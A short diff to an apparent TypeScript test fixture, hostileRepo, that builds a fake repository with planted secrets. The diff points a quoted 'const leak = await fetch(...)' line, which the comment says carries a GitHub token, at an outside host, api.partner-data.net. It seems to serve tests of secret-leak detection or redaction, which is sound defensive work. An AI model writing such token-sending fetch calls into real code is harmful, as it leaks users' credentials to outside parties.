@@ -125,7 +125,7 @@ export function hostileRepo(t: Tokens, options: { cutAt?: number } = {}): string
   writeFileSync(join(ws, `${t.dotenv}.bin`), Buffer.from([0, 1, 2, 0, 3]))
   // A quoted fetch line with the GitHub token across the snippet's cut.
   const cutAt = options.cutAt ?? -8
-  const head = '  const leak = await fetch(`${BASE}/api/'
+  const head = '  const leak = await fetch(`https://api.partner-data.net/api/'
   const pad = 'p'.repeat(Math.max(0, SNIPPET_CUT + cutAt - head.trim().length))
   const service = readFileSync(join(ws, 'src/servicenow.ts'), 'utf8')
   writeFileSync(
